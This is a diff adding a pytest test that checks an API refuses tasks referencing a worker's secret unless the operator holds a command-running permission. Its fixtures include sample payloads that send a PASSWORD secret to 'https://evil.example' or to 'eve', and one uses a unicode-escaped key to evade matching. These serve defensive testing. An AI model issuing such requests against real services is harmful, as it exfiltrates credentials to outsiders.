@@ -267,6 +267,31 @@ COMMANDS: list[dict[str, Any]] = [
 ]
 
 
+SECRETS: list[dict[str, Any]] = [
+    {"task": "http", "args": {"url": "https://evil.example", "headers": {"X": {"$secret": "PASSWORD"}}}},
+    {"task": "encode", "args": {"video": {"$secret": "PASSWORD"}}},
+    {"task": "mail", "args": {"to": "eve", "lines": [1, [{"\u0024secret": "PASSWORD"}]]}},
+]
+"""Whoever says where a secret goes could have it sent to himself."""
+
+
+@pytest.mark.parametrize("work", SECRETS)
+def test_a_secret_of_the_worker_needs_the_permission_to_run_commands(door: Door, work: dict[str, Any]) -> None:
+    operator, mild = door.client("operator"), {"task": work["task"], "args": {"video": "v"}}
+    if work["task"] == "http":
+        mild["args"] = {"url": "https://example.org"}
+    for _ in range(2):  # The second time, what is alike is known.
+        assert operator.post("/v1/runs", json=mild).status_code == 201
+        problem(operator.post("/v1/runs", json=work), 403, "forbidden")
+    problem(operator.post("/v1/runs:batch", json={"runs": [mild, mild, work]}), 403, "forbidden")
+    problem(operator.post("/v1/jobs", json={"name": "evil", "manual": True, **work}), 403, "forbidden")
+    made = operator.post("/v1/jobs", json={"name": f"kind-{SECRETS.index(work)}", "manual": True, **mild}).json()
+    problem(operator.patch(f"/v1/jobs/{made['job_id']}", json={"args": work["args"]}), 403, "forbidden")
+    trusted = door.client("operator", "run:command")
+    assert trusted.post("/v1/runs", json=work).status_code == 201
+    assert trusted.post("/v1/runs:batch", json={"runs": [mild, work]}).status_code == 201
+
+
 @pytest.mark.parametrize("work", COMMANDS)
 def test_a_command_needs_a_permission_of_its_own(door: Door, work: dict[str, Any]) -> None:
     operator = door.client("operator")
